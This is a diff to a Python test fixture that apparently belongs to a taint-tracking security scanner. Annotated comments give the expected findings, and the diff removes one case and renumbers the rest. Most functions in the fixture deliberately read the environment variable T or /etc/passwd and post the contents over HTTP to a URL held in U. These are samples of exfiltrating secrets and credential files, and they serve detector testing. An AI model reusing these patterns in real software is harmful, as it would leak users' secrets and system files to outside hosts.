@@ -18,7 +18,6 @@ import os
 import queue
 import runpy
 import sched
-import signal
 import threading
 import winreg
 import zipimport
@@ -314,19 +313,11 @@ def in_deque():
     requests.post(U, data=items[0])  #~ sink(egress.http) f51, finding(traced) f51
 
 
-def on_signal(number, frame):
-    requests.post(U, data=os.getenv("T"))  #~ source(ENVIRONMENT) f52, sink(egress.http) f52, finding(traced) f52
-
-
-SECRETS = []
-
-
 def send_at_exit(item):
     requests.post(U, data=item)  #~ sink(egress.http) fexit, finding(traced) fexit
 
 
 def at_exit():
-    signal.signal(signal.SIGTERM, on_signal)  #~ ok
     atexit.register(send_at_exit, os.getenv("T"))  #~ source(ENVIRONMENT) fexit
 
 
@@ -385,33 +376,33 @@ def both(a, b):
 
 
 def reduced():
-    text = functools.reduce(both, ["a", os.getenv("T")])  #~ source(ENVIRONMENT) f67
-    requests.post(U, data=text)  #~ sink(egress.http) f67, finding(traced) f67
+    text = functools.reduce(both, ["a", os.getenv("T")])  #~ source(ENVIRONMENT) f66
+    requests.post(U, data=text)  #~ sink(egress.http) f66, finding(traced) f66
 
 
 def chained():
-    items = itertools.chain(["a"], [os.getenv("T")])  #~ source(ENVIRONMENT) f68
-    requests.post(U, data=list(items))  #~ sink(egress.http) f68, finding(traced) f68
+    items = itertools.chain(["a"], [os.getenv("T")])  #~ source(ENVIRONMENT) f67
+    requests.post(U, data=list(items))  #~ sink(egress.http) f67, finding(traced) f67
 
 
 def chained_nested():
-    items = itertools.chain.from_iterable([[os.getenv("T")]])  #~ source(ENVIRONMENT) f69
-    requests.post(U, data=list(items))  #~ sink(egress.http) f69, finding(traced) f69
+    items = itertools.chain.from_iterable([[os.getenv("T")]])  #~ source(ENVIRONMENT) f68
+    requests.post(U, data=list(items))  #~ sink(egress.http) f68, finding(traced) f68
 
 
 def sliced():
-    items = itertools.islice([os.getenv("T")], 1)  #~ source(ENVIRONMENT) f70
-    requests.post(U, data=list(items))  #~ sink(egress.http) f70, finding(traced) f70
+    items = itertools.islice([os.getenv("T")], 1)  #~ source(ENVIRONMENT) f69
+    requests.post(U, data=list(items))  #~ sink(egress.http) f69, finding(traced) f69
 
 
 def taken():
-    items = itertools.takewhile(keep, [os.getenv("T")])  #~ source(ENVIRONMENT) f71
-    requests.post(U, data=list(items))  #~ sink(egress.http) f71, finding(traced) f71
+    items = itertools.takewhile(keep, [os.getenv("T")])  #~ source(ENVIRONMENT) f70
+    requests.post(U, data=list(items))  #~ sink(egress.http) f70, finding(traced) f70
 
 
 def starred():
-    items = itertools.starmap(both, [("a", os.getenv("T"))])  #~ source(ENVIRONMENT) f72
-    requests.post(U, data=list(items))  #~ sink(egress.http) f72, finding(traced) f72
+    items = itertools.starmap(both, [("a", os.getenv("T"))])  #~ source(ENVIRONMENT) f71
+    requests.post(U, data=list(items))  #~ sink(egress.http) f71, finding(traced) f71
 
 
 def quiet_iterators():
@@ -441,11 +432,11 @@ async def gathered():
 
 
 async def as_thread():
-    requests.post(U, data=await asyncio.to_thread(pass_on, os.getenv("T")))  #~ source(ENVIRONMENT) f78, sink(egress.http) f78, finding(traced) f78
+    requests.post(U, data=await asyncio.to_thread(pass_on, os.getenv("T")))  #~ source(ENVIRONMENT) f77, sink(egress.http) f77, finding(traced) f77
 
 
 async def in_loop(loop):
-    requests.post(U, data=await loop.run_in_executor(None, pass_on, os.getenv("T")))  #~ source(ENVIRONMENT) f79, sink(egress.http) f79, finding(traced) f79
+    requests.post(U, data=await loop.run_in_executor(None, pass_on, os.getenv("T")))  #~ source(ENVIRONMENT) f78, sink(egress.http) f78, finding(traced) f78
 
 
 def send_soon(item):
@@ -479,13 +470,13 @@ async def quiet_tasks(loop):
 
 
 def closed():
-    with contextlib.closing(open("/etc/passwd")) as f:  #~ source(FILE) f86
-        requests.post(U, data=f.read())  #~ sink(egress.http) f86, finding(traced) f86
+    with contextlib.closing(open("/etc/passwd")) as f:  #~ source(FILE) f85
+        requests.post(U, data=f.read())  #~ sink(egress.http) f85, finding(traced) f85
 
 
 def stacked(stack):
-    f = stack.enter_context(open("/etc/passwd"))  #~ source(FILE) f87
-    requests.post(U, data=f.read())  #~ sink(egress.http) f87, finding(traced) f87
+    f = stack.enter_context(open("/etc/passwd"))  #~ source(FILE) f86
+    requests.post(U, data=f.read())  #~ sink(egress.http) f86, finding(traced) f86
 
 
 def quiet_contexts(stack):
